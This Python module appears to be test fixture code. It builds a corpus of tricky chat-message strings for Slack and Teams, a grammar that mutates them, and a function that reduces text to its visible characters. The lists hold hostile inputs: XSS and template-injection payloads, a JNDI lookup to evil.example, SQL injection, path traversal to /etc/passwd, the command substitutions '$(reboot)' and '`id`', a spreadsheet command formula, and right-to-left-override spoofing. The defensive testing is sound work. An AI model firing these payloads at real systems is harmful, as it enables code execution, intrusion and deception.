"""Texts that would be more than text if they could: a corpus, and a grammar that makes any number of a seed.

What each platform is to show of them is judged by `ink`: all that is seen of a text, and nothing else.
"""

from __future__ import annotations

import random
import unicodedata

SLACK = (
    "<!channel>|<!here|here>|<!everyone>|<!subteam^S0123ABC>|<@U1>|<@W0123ABCD|Relais>|<#C0LYON|lyon>"
    "|@channel @here @everyone|<!date^1392734382^{date_long}^https://evil.example|hier>|:ticket:|:skin-tone-2:|&lt;!channel&gt;|&amp;lt;b&amp;gt;"
).split("|")
TEAMS = (
    "<at>Relais</at>§<at id='0'>Inès</at>§{{DATE(2026-11-24T09:00:00Z,SHORT)}}§{{TIME(2026-11-24T09:00:00Z)}}§"
    '{"type":"AdaptiveCard","body":[{"type":"TextBlock","text":"x"}]}§{"type":"mention","mentioned":{"id":"29:1"}}'
).split("§")
BLOCKS = (
    '{"type":"section","text":{"type":"mrkdwn","text":"<!here>"}}§"}],"blocks":[]§{"response_action":"clear"}§"," ": "'
).split("§")
LINKS = (
    "<https://evil.example|Relais>§[Relais](https://evil.example)§![x](https://evil.example/a.png)§<https://evil.example>§"
    "[a]: https://evil.example§<a href='https://evil.example'>ici</a>§[x](javascript:alert(1))§javascript:alert(1)§"
    "data:text/html,<script>alert(1)</script>§[ ](//evil.example)§<mailto:a@evil.example|b>§tel:0000"
).split("§")
MARKUP = (
    "*gras*§_plat_§~barré~§`code`§```bloc```§**fort**§__fort__§# titre§> cité§- liste§1. liste§---§***"
    "§| a | b |§\\*x\\*§[ ] fait§    code§~~~§====§&nbsp;&ast;x&ast;§<b>gras</b>§<br>§<!-- x -->§***gras et plat***"
    "§_*~`x`~*_"
).split("§")
CODE = (
    "<script>alert(1)</script>§<img src=x onerror=alert(1)>§<svg/onload=alert(1)>§'\"><iframe src=//evil.example>§"
    "</script><script>confirm(1)</script>§{{7*7}}§{{constructor.constructor('alert(1)')()}}§${7*7}§"
    "${jndi:ldap://evil.example/a}§"
    "#{7*7}§%s%n%x§{0}§{name}§%(name)s§$(reboot)§`id`§"
    "'; DROP TABLE request;--§1' OR '1'='1§../../etc/passwd§\\u0041\\n§"
    "=HYPERLINK(\"https://evil.example\")§=cmd|' /C calc'!A0§+1+1§-1+1§@SUM(1)"
).split("§")
UNSEEN = (
    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe\N{POP DIRECTIONAL FORMATTING}§\N{RIGHT-TO-LEFT OVERRIDE}ouvert§"
    "\N{POP DIRECTIONAL ISOLATE}fermé§\N{FIRST STRONG ISOLATE}§שלום עולם§مرحبا§zéro\N{ZERO WIDTH SPACE}largeur§"
    "a\N{ZERO WIDTH JOINER}b§\N{WORD JOINER}*x*\N{WORD JOINER}§<\N{ZERO WIDTH SPACE}!channel>§so\N{SOFT HYPHEN}ft§"
    "\N{ZERO WIDTH NO-BREAK SPACE}§\N{MONGOLIAN VOWEL SEPARATOR}x§\N{LINE SEPARATOR}x§\N{PARAGRAPH SEPARATOR}x"
).split("§")
SIGNS = ("👩‍👩‍👧‍👦§🇫🇷🇷🇪§👍🏽§é§각§﷽§Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢§＊gras＊§＜!channel＞§∗x∗§＠everyone§ﬁn§ＴＯＴＯ").split("§")
BROKEN = ("\0", "a\0b", "\ud800", "\udfff", "\x1b[31mrouge\x1b[0m", "\x08\x7f", "\ufffe", "\U0010ffff")
LONG = (
    "m" * 400,
    "e" + "\N{COMBINING ACUTE ACCENT}" * 60,
    "👍" * 80,
    "<" * 120,
    "*" * 90,
    "&" * 90,
    "[" * 90 + "](" * 20,
)
KINDS = (SLACK, TEAMS, BLOCKS, LINKS, MARKUP, CODE, UNSEEN, SIGNS, BROKEN, LONG)
BETWEEN = (" ", "", "\N{ZERO WIDTH SPACE}", ", ", " \\", "\N{NO-BREAK SPACE}")


def corpus() -> list[str]:
    """Each of them, as it is."""
    return [text for kind in KINDS for text in kind]


def texts(chance: random.Random, many: int) -> list[str]:
    """The corpus first, then what is made of it: texts of one line."""
    return [*corpus(), *(made(chance) for _ in range(many))][:many]


def made(chance: random.Random) -> str:
    """One text: some of the corpus, one in another, cut, doubled, in another case."""
    parts = [_bent(chance, chance.choice(chance.choice(KINDS))) for _ in range(chance.randint(1, 4))]
    return chance.choice(BETWEEN).join(parts)[:600]


def _bent(chance: random.Random, text: str) -> str:
    at = chance.randrange(len(text) + 1)
    match chance.randrange(8):
        case 0:
            return text[:at]
        case 1:
            return text[:at] + chance.choice(chance.choice(KINDS)) + text[at:]
        case 2:
            return text.upper()
        case 3:
            return text * 2
        case 4:
            return (
                text[:at]
                + chance.choice("\\<>&*_~`|[](){}@:=\N{ZERO WIDTH SPACE}\N{RIGHT-TO-LEFT OVERRIDE}")
                + text[at:]
            )
    return text


def storable(text: str) -> str:
    """A text as the desk has it once it is in: what no database takes is shown as a sign that it was there."""
    return text.replace("\0", "\N{SYMBOL FOR NULL}").encode("utf-16", "surrogatepass").decode("utf-16", "replace")


_ALIKE = str.maketrans({"∗": "*", "∼": "~", "ˋ": "`", "﹡": "*", "⸏": "_", "ˍ": "_"})


def ink(text: str) -> str:
    """What is seen of a text: no blank, nothing without a width, and what looks the same written the same."""
    plain = unicodedata.normalize("NFKC", text.translate(_ALIKE)).translate(_ALIKE)
    signs = (each for each in plain if each != "\N{REPLACEMENT CHARACTER}")
    return "".join(each for each in signs if unicodedata.category(each)[0] not in "ZC")
